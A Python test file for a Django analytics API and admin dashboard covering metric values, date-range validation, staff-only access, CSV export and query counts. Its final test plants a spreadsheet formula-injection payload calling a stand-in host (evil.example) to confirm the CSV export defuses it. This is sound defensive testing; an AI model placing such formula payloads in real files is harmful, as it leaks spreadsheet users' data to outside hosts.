from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from analytics.services.presentation import dashboard_tables
from analytics.views import csv_cell
from runbooks.models import Runbook
from tests.analytics.fixtures import T0, S, build_world, event, make_log
from tests.factories import UserFactory
from tests.runbooks.factories import RunbookFactory

pytestmark = pytest.mark.django_db

URL = "/api/analytics/metrics"
RANGE = {"start": "2026-01-10", "end": "2026-01-10"}


@pytest.fixture
def world(user):
    return build_world(user)


def test_metrics_api_returns_every_metric_by_name(client, staff_user, world, settings):
    settings.TIME_ZONE = "UTC"
    client.force_login(staff_user)
    response = client.get(URL, RANGE)
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["start"] == "2026-01-10T00:00:00+00:00"
    assert body["end"] == "2026-01-11T00:00:00+00:00"
    assert body["recommendation_rate"] == pytest.approx(5 / 6)
    assert body["click_through_rate"] == pytest.approx(3 / 5)
    assert body["first_choice_accuracy"] == pytest.approx(2 / 3)
    assert body["mean_reciprocal_rank"] == pytest.approx(2.5 / 3)
    assert body["multi_click_rate"] == pytest.approx(2 / 3)
    assert body["abandon_rate"] == pytest.approx(2 / 5)
    assert body["time_to_decision_seconds"]["median"] == pytest.approx(10)
    assert body["time_to_decision_seconds"]["p90"] == pytest.approx(26)
    assert [r["slug"] for r in body["top_runbooks"]] == ["t/a", "t/c", "t/b", "t/r"]
    assert {r["strategy"] for r in body["strategy_distribution"]} == {
        "single_solution",
        "multiple_options",
        "no_solutions",
        "primary_plus_one",
    }
    assert [s["count"] for s in body["funnel"]] == [9, 5, 1, 1, 1]
    assert body["daily_trend"] == [
        {"day": "2026-01-10", "queries": 6, "recommendations": 5, "clicks": 3, "click_through_rate": 0.6}
    ]
    assert [(e["variant"], e["decision"]) for e in body["experiments"]][0] == ("control", "control")


def test_metrics_api_for_restricted_staff_hides_runbooks_they_may_not_see(client, world, settings):
    settings.TIME_ZONE = "UTC"
    client.force_login(UserFactory(username="ops", is_staff=True))
    body = client.get(URL, RANGE).json()
    assert [r["slug"] for r in body["top_runbooks"]] == ["t/a", "t/c", "t/b"]
    assert body["first_choice_accuracy"] == pytest.approx(1 / 3)


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"start": "yesterday"}, "start", "not an ISO 8601 date"),
        ({"start": "2026-01-12", "end": "2026-01-10"}, "start", "must be before end"),
        ({"start": "2020-01-01", "end": "2026-01-10"}, "end", "at most 400 days"),
        ({"end": "2026-02-30"}, "end", "not an ISO 8601 date"),
    ],
)
def test_metrics_api_rejects_bad_ranges_with_a_clear_message(client, staff_user, params, field, message):
    client.force_login(staff_user)
    response = client.get(URL, params)
    assert response.status_code == 400
    body = response.json()
    assert body["error"] == "invalid"
    assert message in body["detail"]
    assert message in body["fields"][field][0]


def test_metrics_api_denies_non_staff_and_anonymous(client, auth_client):
    assert auth_client.get(URL).status_code == 403
    assert auth_client.get(URL).json()["detail"] == "Analytics are for staff only."
    client.logout()
    assert client.get(URL).status_code in (401, 403)


def test_metrics_api_empty_range_gives_nulls(client, staff_user):
    client.force_login(staff_user)
    body = client.get(URL, {"start": "2026-01-01", "end": "2026-01-03"}).json()
    assert body["click_through_rate"] is None
    assert body["abandon_rate"] is None
    assert body["time_to_decision_seconds"]["median"] is None
    assert [d["queries"] for d in body["daily_trend"]] == [0, 0, 0]


def test_dashboard_is_inside_the_admin_for_staff_only(client, auth_client, staff_user, world, settings):
    settings.TIME_ZONE = "UTC"
    url = reverse("admin:analytics_dashboard")
    assert url == "/admin/analytics/dashboard/"
    response = auth_client.get(url)  # logged in, not staff
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    client.force_login(staff_user)
    response = client.get(url, RANGE)
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="analytics-charts"' in html  # json_script data for the charts
    assert "vendor/chartjs/chart.umd.js" in html
    assert "<script>" not in html and " style=" not in html.split('id="analytics-dashboard"')[1]
    index = client.get(reverse("admin:index")).content.decode()
    assert url in index


def test_dashboard_shows_the_error_of_a_bad_range(client, staff_user):
    # 400, with the form and the reason in words over the default range (tests/analytics/test_parameters.py
    # holds every parameter to this).
    client.force_login(staff_user)
    response = client.get(reverse("admin:analytics_dashboard"), {"start": "2026-01-12", "end": "2026-01-10"})
    assert response.status_code == 400
    assert "must be before end" in response.content.decode()
    assert "Showing the last 30 days instead." in response.content.decode()


def test_every_table_exports_as_csv_with_raw_numbers(client, staff_user, world, settings):
    settings.TIME_ZONE = "UTC"
    client.force_login(staff_user)
    page = client.get(reverse("admin:analytics_dashboard"), RANGE)
    tables = dashboard_tables(page.context["dashboard"])
    assert set(tables) == {
        "kpis",
        "daily_trend",
        "by_source",
        "alert_outcomes",
        "funnel",
        "strategy_distribution",
        "time_to_decision",
        "click_rank_histogram",
        "carried_split",
        "top_runbooks",
        "experiments",
    }
    assert [t.name for t in page.context["page"].tables] == list(tables)[1:]  # key figures are cards
    html = page.content.decode()
    for table in tables.values():
        url = reverse("admin:analytics_dashboard_csv", args=[table.name])
        assert f"{url}?start=2026-01-10&amp;end=2026-01-10" in html
        response = client.get(url, RANGE)
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert rows[0] == table.headers
        assert rows[1:] == table.rows
    top = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("admin:analytics_dashboard_csv", args=["top_runbooks"]), RANGE).content.decode()
            )
        )
    )
    assert top[1] == ["t/a", "A", "3", "3", "1.0000", "1.3333"]
    # Every presentation of the fixtures was newly retrieved for its turn: 9 shown, 5 clicked.
    assert tables["carried_split"].rows == [["False", "9", "5", "0.5556"]]
    assert "Newly retrieved" in html


def test_csv_export_of_an_unknown_table_is_404_and_non_staff_are_sent_to_login(client, auth_client, staff_user):
    url = reverse("admin:analytics_dashboard_csv", args=["passwords"])
    assert auth_client.get(url).status_code == 302
    client.force_login(staff_user)
    assert client.get(url).status_code == 404


def _dashboard_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("admin:analytics_dashboard"), RANGE)
    assert response.status_code == 200
    assert "Click-through" in response.content.decode()
    return len(queries)


def test_dashboard_query_count_does_not_grow_with_data(client, staff_user, world, user):
    client.force_login(staff_user)
    small = _dashboard_queries(client)
    # Forty more answers in the range, with more runbooks, presentations, clicks, sources and strategies.
    for index in range(40):
        runbooks = [RunbookFactory(slug=f"t/more-{index}-{rank}") for rank in (1, 2)]
        log = make_log(user=user, created_at=T0 + index * S, strategy="multiple_options", presented=runbooks,
                       source="widget" if index % 2 else "chat_page")
        event(log, runbooks[index % 2], "clicked_link", T0 + (index + 5) * S)
    large = _dashboard_queries(client)
    assert small == large, "the dashboard's queries grow with the data"
    # Five statements (per log, per presentation, funnel, per source, alert outcomes), each with its work_mem.
    assert large <= 25


def test_csv_export_defuses_spreadsheet_formulas_and_keeps_negative_numbers(client, staff_user, world, settings):
    settings.TIME_ZONE = "UTC"
    Runbook.objects.filter(slug="t/a").update(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
    client.force_login(staff_user)
    response = client.get(reverse("admin:analytics_dashboard_csv", args=["top_runbooks"]), RANGE)
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:2] == ["t/a", '\'=HYPERLINK("http://evil.example/?"&A1,"click")']
    assert [csv_cell(v) for v in ["-0.25", "+3", "@SUM(A1)", "-cmd", "plain", 7]] == [
        "-0.25",
        "+3",
        "'@SUM(A1)",
        "'-cmd",
        "plain",
        7,
    ]
